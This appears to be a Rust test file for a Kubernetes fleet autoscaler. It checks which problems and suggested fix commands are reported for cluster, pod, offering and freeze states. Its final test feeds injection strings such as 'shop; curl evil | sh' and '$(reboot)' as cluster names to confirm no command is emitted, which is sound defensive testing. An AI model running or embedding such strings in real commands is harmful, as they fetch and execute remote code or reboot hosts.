use fleetwright_proto::v1;

use super::*;

const NOW_MS: i64 = 1_800_000_000_000;

/// A fleet without anything.
fn nothing() -> Facts {
    Facts {
        clusters: Vec::new(),
        pools: Vec::new(),
        pods: Vec::new(),
        offerings: Vec::new(),
        freezes: Vec::new(),
        outages: Vec::new(),
        is_fleet: false,
    }
}

fn cluster() -> v1::Cluster {
    let guardrails = Some(v1::Guardrails::default());
    v1::Cluster {
        name: "clusters/shop".to_owned(),
        connected: true,
        synced: true,
        guardrails,
        ..v1::Cluster::default()
    }
}

fn guarded(guardrails: v1::Guardrails) -> v1::Cluster {
    v1::Cluster { guardrails: Some(guardrails), ..cluster() }
}

fn minutes_ago(minutes: i64) -> Option<prost_types::Timestamp> {
    Some(from_millis(NOW_MS - minutes * 60_000))
}

/// The problems as lines, in the order of their names.
fn shown(facts: &Facts) -> Vec<String> {
    let mut found = problems(facts, NOW_MS);
    found.sort_by(|one, other| one.name.cmp(&other.name));
    let names: std::collections::BTreeSet<&str> = found.iter().map(|problem| &*problem.name).collect();
    assert_eq!(names.len(), found.len(), "names differ");
    let line = |problem: &v1::Problem| {
        let severity = problem.severity().as_str_name().trim_start_matches("SEVERITY_").to_lowercase();
        let count = if problem.count == 0 { String::new() } else { format!("{} ", problem.count) };
        let reason = if problem.reason.is_empty() { String::new() } else { format!(" ({})", problem.reason) };
        format!("{severity} {}: {count}{}{reason} > {}", problem.name, problem.summary, problem.command)
    };
    found.iter().map(line).collect()
}

fn of(cluster: v1::Cluster) -> Vec<String> {
    shown(&Facts { clusters: vec![cluster], ..nothing() })
}

#[test]
fn a_fleet_in_which_nothing_is_wrong_has_no_problem_and_one_without_clusters_has_the_commands_that_connect_one() {
    assert_eq!(of(cluster()), Vec::<String>::new());
    assert_eq!(problems(&nothing(), NOW_MS), []);
    assert_eq!(shown(&Facts { clusters: vec![cluster()], is_fleet: true, ..nothing() }), Vec::<String>::new());
    assert_eq!(
        shown(&Facts { is_fleet: true, ..nothing() }),
        [
            "info problems/NoCluster: no cluster yet (no agent has connected: in each cluster, write the address of this server \
             into deploy/agent/run/agent.env, and apply the agent) > kubectl apply --server-side -f deploy/crds -f \
             deploy/agent/namespace.yaml -f deploy/agent/rbac.yaml && kubectl apply --server-side -k deploy/agent/run"
        ]
    );
}

#[test]
fn a_problem_of_a_cluster_says_since_when() {
    let since = |cluster: v1::Cluster| {
        let found = problems(&Facts { clusters: vec![cluster], ..nothing() }, NOW_MS);
        found.into_iter().map(|problem| (problem.code, problem.start_time)).collect::<Vec<_>>()
    };
    let ago = minutes_ago(7);
    let away = v1::Cluster { connected: false, observe_time: ago, ..cluster() };
    let syncing = v1::Cluster { synced: false, unsynced_time: ago, ..cluster() };
    let failed = v1::Cluster { plan_error: "x".to_owned(), plan_error_time: ago, ..cluster() };
    for (row, code) in [(away, "AgentDisconnected"), (syncing, "NotSynced"), (failed, "PlanFailed")] {
        assert_eq!(since(row), [(code.to_owned(), ago)]);
    }
    let text = || "x".to_owned();
    let guardrails = v1::Guardrails {
        shadow: true,
        shadow_time: ago,
        circuit_breaker_reason: text(),
        circuit_breaker_time: ago,
        launches_blocked_reason: text(),
        launches_blocked_time: ago,
        removals_blocked_reason: text(),
        removals_blocked_time: ago,
        listing_rejected_reason: text(),
        listing_rejected_time: ago,
        backoff_pod_count: 1,
        backoff_time: ago,
        ..Default::default()
    };
    let partly = v1::Cluster {
        problems: vec![text()],
        problems_time: ago,
        unmanaged_pools: vec![v1::UnmanagedPool::default()],
        unmanaged_pools_time: ago,
        autoscalers: vec![text()],
        autoscalers_time: ago,
        ..guarded(guardrails)
    };
    let all = since(partly);
    assert_eq!((all.len(), all.iter().filter(|(_, start)| *start == ago).count()), (9, 9), "{all:#?}");
}

#[test]
fn what_ends_by_itself_says_when_and_what_it_costs_until_then_and_which_setting_allows_more() {
    let in_minutes = |minutes: i64| minutes_ago(-minutes);
    let guardrails = v1::Guardrails {
        launches_blocked_reason: "a limit".to_owned(),
        launches_blocked_until_time: in_minutes(4),
        launches_blocked_setting: "guardrails.launches-per-cluster".to_owned(),
        removals_blocked_reason: "another limit".to_owned(),
        removals_blocked_until_time: in_minutes(9),
        removals_blocked_setting: "guardrails.removal-percent-per-fleet".to_owned(),
        removals_blocked_price_micro_usd_per_hour: 7_500_000,
        ..Default::default()
    };
    let freeze = v1::Freeze { name: "freezes/7".to_owned(), expire_time: in_minutes(60), ..v1::Freeze::default() };
    let facts = Facts {
        clusters: vec![guarded(guardrails)],
        freezes: vec![freeze],
        offerings: vec![offering("m6i.large", "use1-az2", 2, 1), offering("m6i.large", "use1-az1", 3, 2)],
        ..nothing()
    };
    let found = problems(&facts, NOW_MS);
    let of = |code: &str| {
        let found = found.iter().find(|problem| problem.code == code).unwrap_or_else(|| panic!("{code}"));
        (found.end_time, found.price_micro_usd_per_hour, &*found.setting)
    };
    assert_eq!(of("LaunchesBlocked"), (in_minutes(4), 0, "guardrails.launches-per-cluster"));
    assert_eq!(of("RemovalsBlocked"), (in_minutes(9), 7_500_000, "guardrails.removal-percent-per-fleet"));
    assert_eq!(of("Frozen"), (in_minutes(60), 0, ""));
    assert_eq!(of("Shortage"), (in_minutes(3), 0, ""), "when the last of them is over");
}

#[test]
fn a_cluster_without_decisions_has_one_cause() {
    let pods = "kubectl get pods -n fleetwright-system -l app.kubernetes.io/name=fleetwright-agent";
    let lost = v1::Cluster { stale: true, connected: false, synced: false, observe_time: minutes_ago(3), ..cluster() };
    let since = problems(&Facts { clusters: vec![lost.clone()], ..nothing() }, NOW_MS)[0].start_time;
    assert_eq!(since, minutes_ago(3));
    assert_eq!(
        of(lost),
        [format!(
            "critical clusters/shop/problems/NoOwner: no server decides (no replica that answers owns the cluster, or its agent is \
             connected to none) > {pods}"
        )]
    );
    let away = v1::Cluster { connected: false, synced: false, plan_error: "x".to_owned(), ..cluster() };
    assert_eq!(
        of(away),
        [format!(
            "critical clusters/shop/problems/AgentDisconnected: the agent is disconnected (nothing is decided until it is \
             connected again) > {pods}"
        )]
    );
    let syncing = v1::Cluster { synced: false, plan_error: "x".to_owned(), ..cluster() };
    assert_eq!(
        of(syncing),
        [
            "warning clusters/shop/problems/NotSynced: the agent is sending the state of the cluster (nothing is decided until it is complete) > \
          fleetwright fleet clusters --filter 'name = \"clusters/shop\"' -o yaml"
        ]
    );
    let quarantined = v1::Guardrails { quarantine_reason: "it lost 9 of 10 nodes".to_owned(), ..Default::default() };
    assert_eq!(
        of(v1::Cluster { synced: false, ..guarded(quarantined) }),
        [
            "critical clusters/shop/problems/Quarantined: the snapshot of the agent is quarantined (it lost 9 of 10 nodes) > \
          fleetwright quarantine release shop"
        ]
    );
    let failed = v1::Cluster { plan_error: "no catalogue".to_owned(), ..cluster() };
    assert_eq!(
        of(failed),
        ["critical clusters/shop/problems/PlanFailed: the last plan failed (no catalogue) > \
          fleetwright history --cluster shop"]
    );
}

#[test]
fn a_cluster_without_its_agent_says_why_the_agent_ended_its_stream() {
    let pods = "kubectl get pods -n fleetwright-system -l app.kubernetes.io/name=fleetwright-agent";
    let why = "the agent ended its stream because the API server of the cluster does not answer";
    let away = v1::Cluster { connected: false, synced: false, disconnect_reason: why.to_owned(), ..cluster() };
    assert_eq!(
        of(away.clone()),
        [format!("critical clusters/shop/problems/AgentDisconnected: the agent is disconnected ({why}) > {pods}")]
    );
    // No replica has owned it since.
    assert_eq!(
        of(v1::Cluster { stale: true, ..away }),
        [format!("critical clusters/shop/problems/NoOwner: no server decides ({why}) > {pods}")]
    );
}

#[test]
fn each_guardrail_in_effect_is_a_problem() {
    let text = |text: &str| text.to_owned();
    let waiting =
        v1::WaitingRemoval { reason: text("its node was deleted"), release: text("confirm"), ..Default::default() };
    let guardrails = v1::Guardrails {
        shadow: true,
        disruption_shadow: true,
        circuit_breaker_reason: text("3 failed"),
        launches_blocked_reason: text("rate limit"),
        removals_blocked_reason: text("budget"),
        listing_rejected_reason: text("half are missing"),
        backoff_pod_count: 4,
        waiting_removals: vec![waiting],
        waiting_removal_count: 12,
        // The freeze itself is the problem.
        freeze_reasons: vec![text("freeze 7")],
        ..Default::default()
    };
    assert_eq!(
        of(guarded(guardrails)),
        [
            "critical clusters/shop/problems/CircuitBreakerOpen: removals are stopped by the circuit breaker (3 failed) > \
             fleetwright removals",
            "warning clusters/shop/problems/LaunchBackoff: 4 pods are in launch backoff (earlier launches did not bind them) > \
             fleetwright fleet pods --cluster shop",
            "warning clusters/shop/problems/LaunchesBlocked: launches are blocked (rate limit) > \
             fleetwright history --cluster shop",
            "critical clusters/shop/problems/ListingRejected: the cloud's list of instances is suspicious (half are missing) \
             > fleetwright removals",
            "warning clusters/shop/problems/RemovalsBlocked: removals are blocked (budget) > \
             fleetwright history --cluster shop",
            "warning clusters/shop/problems/RemovalsWaiting: 12 removals wait (its node was deleted; confirm) > \
             fleetwright removals",
            "info clusters/shop/problems/Shadow: decisions are recorded and not carried out > \
             fleetwright history --cluster shop",
        ]
    );
}

#[test]
fn what_keeps_fleetwright_from_a_part_of_a_cluster_is_a_problem() {
    let left = v1::UnmanagedPool { node_pool: "gpu".to_owned(), reason: "another node class".to_owned() };
    let partly = v1::Cluster {
        problems: vec!["NodePool x cannot be read".to_owned(), "pods cannot be watched".to_owned()],
        unmanaged_pools: vec![left],
        unusable_nodes: vec!["Node n-1 has a taint".to_owned()],
        autoscalers: vec!["karpenter".to_owned(), "cluster-autoscaler".to_owned()],
        ..cluster()
    };
    let show = "fleetwright fleet clusters --filter 'name = \"clusters/shop\"' -o yaml";
    assert_eq!(
        of(partly),
        [
            format!("warning clusters/shop/problems/NodesUnusable: 1 Nodes stay and take no pod (Node n-1 has a taint) > {show}"),
            "warning clusters/shop/problems/OtherAutoscaler: another autoscaler is active: karpenter, cluster-autoscaler (two \
             of them launch and remove machines for the same pods) > \
             fleetwright freeze --reason 'two autoscalers' --cluster shop"
                .to_owned(),
            format!("info clusters/shop/problems/UnmanagedPools: 1 NodePools are not managed (gpu: another node class) > {show}"),
            format!(
                "warning clusters/shop/problems/UnreadableObjects: 2 objects cannot be read or watched (NodePool x cannot be \
                 read) > {show}"
            ),
        ]
    );
    let pool = v1::Pool {
        name: "clusters/shop/pools/spot".to_owned(),
        not_ready_reason: "its EC2NodeClass is not ready".to_owned(),
        ..v1::Pool::default()
    };
    assert_eq!(
        shown(&Facts { pools: vec![pool], ..nothing() }),
        [
            "warning clusters/shop/pools/spot/problems/NodePoolNotReady: no instance is launched from the NodePool (its EC2NodeClass is \
          not ready) > kubectl describe nodepool spot"
        ]
    );
}

fn pod(name: &str, minutes: i64, state: v1::PodState, reason: Option<(&str, &str)>) -> v1::Pod {
    let reason = reason.map(|(pool, code)| v1::Reason {
        pool: pool.to_owned(),
        code: code.to_owned(),
        message: "it lacks room".to_owned(),
    });
    v1::Pod {
        name: format!("clusters/shop/namespaces/web/pods/{name}"),
        create_time: minutes_ago(minutes),
        state: state.into(),
        reasons: reason.into_iter().collect(),
        ..v1::Pod::default()
    }
}

#[test]
fn pods_that_wait_for_more_than_five_minutes_are_one_problem_for_each_reason() {
    let state = v1::PodState::Unschedulable;
    let planned = v1::Pod { planned_node: "default-7".to_owned(), ..pod("f", 6, v1::PodState::Planned, None) };
    let pods = vec![
        pod("a", 30, state, Some(("spot", "NoRoom"))),
        pod("b", 20, state, Some(("", "NoPool"))),
        pod("c", 10, state, Some(("other", "NoRoom"))),
        pod("d", 9, v1::PodState::Waiting, None),
        pod("e", 5, v1::PodState::Waiting, None),
        planned,
    ];
    let facts = Facts { pods, ..nothing() };
    assert_eq!(
        shown(&facts),
        [
            "critical clusters/shop/problems/PodsUnschedulable.NoPool: 1 pods have no place (web/b waits longest: it lacks room) \
             > fleetwright why pod b -n web --cluster shop",
            "critical clusters/shop/problems/PodsUnschedulable.NoRoom: 2 pods have no place (web/a waits longest: NodePool spot: \
             it lacks room) > fleetwright why pod a -n web --cluster shop",
            "warning clusters/shop/problems/PodsWaitForNode: 1 pods wait for their node (web/f waits longest, for default-7) > \
             fleetwright why pod f -n web --cluster shop",
            "critical clusters/shop/problems/PodsWaitForPlan: 1 pods wait for a plan (web/d waits longest) > \
             fleetwright why pod d -n web --cluster shop",
        ]
    );
    let longest = problems(&facts, NOW_MS).into_iter().find(|problem| problem.code == "PodsUnschedulable.NoRoom");
    assert_eq!(longest.and_then(|problem| problem.start_time), minutes_ago(30));
}

fn offering(instance_type: &str, zone: &str, until_minutes: i64, failures: i32) -> v1::Offering {
    v1::Offering {
        name: format!("offerings/{instance_type}.{zone}"),
        instance_type: instance_type.to_owned(),
        zone_id: zone.to_owned(),
        capacity_type: v1::CapacityType::Spot.into(),
        failure_count: failures,
        refuse_time: minutes_ago(until_minutes),
        exclude_until_time: minutes_ago(-until_minutes),
        reason: "InsufficientInstanceCapacity".to_owned(),
        ..v1::Offering::default()
    }
}

#[test]
fn offerings_that_are_excluded_now_are_one_problem_for_each_type() {
    let offerings = vec![
        offering("m6i.large", "use1-az2", 2, 1),
        offering("m6i.large", "use1-az1", 3, 2),
        offering("c7g.large", "use1-az1", 1, 1),
        offering("r6a.large", "use1-az1", -1, 1),
        offering("r7a.large", "use1-az1", 1, 0),
    ];
    let facts = Facts { offerings, ..nothing() };
    assert_eq!(
        shown(&facts),
        [
            "info problems/Shortage.c7g.large.spot: 1 the cloud refuses spot c7g.large in use1-az1 (InsufficientInstanceCapacity) \
             > fleetwright fleet offerings --filter 'instance_type = \"c7g.large\"'",
            "info problems/Shortage.m6i.large.spot: 2 the cloud refuses spot m6i.large in use1-az1, use1-az2 \
             (InsufficientInstanceCapacity) > fleetwright fleet offerings --filter 'instance_type = \"m6i.large\"'",
        ]
    );
    let first = problems(&facts, NOW_MS).into_iter().find(|problem| problem.count == 2);
    assert_eq!(first.and_then(|problem| problem.start_time), minutes_ago(3), "since the first refusal");
}

#[test]
fn freezes_and_what_the_fleet_depends_on_are_problems_of_the_fleet_or_of_their_target() {
    let freeze = |id: u32, target: &str, only_disruption| v1::Freeze {
        name: format!("freezes/{id}"),
        target: target.to_owned(),
        creator: "ana".to_owned(),
        reason: "incident 4".to_owned(),
        create_time: minutes_ago(9),
        only_disruption,
        ..v1::Freeze::default()
    };
    let outage = v1::Problem {
        name: "problems/StoreUnavailable".to_owned(),
        severity: Critical.into(),
        summary: "the store does not answer".to_owned(),
        ..v1::Problem::default()
    };
    let facts = Facts {
        freezes: vec![freeze(7, "", false), freeze(8, "clusters/shop", true)],
        outages: vec![outage],
        ..nothing()
    };
    assert_eq!(
        shown(&facts),
        [
            "info clusters/shop/problems/Frozen.8: voluntary disruption is frozen (incident 4, by ana) > fleetwright thaw --id 8",
            "info problems/Frozen.7: launches and voluntary removals are frozen (incident 4, by ana) > fleetwright thaw --id 7",
            "critical problems/StoreUnavailable: the store does not answer > ",
        ]
    );
}

/// Agents report names: one with a semicolon would run what follows it.
#[test]
fn there_is_no_command_with_a_name_that_is_not_one_word() {
    for id in ["shop; curl evil | sh", "$(reboot)", "a b", "a\nb", "--server=evil", "é", "'", "shop\u{202e}"] {
        let named = v1::Cluster { name: format!("clusters/{id}"), plan_error: "x".to_owned(), ..cluster() };
        let found = problems(&Facts { clusters: vec![named], ..nothing() }, NOW_MS);
        assert_eq!((found.len(), &*found[0].command), (1, ""), "{id:?}");
    }
}
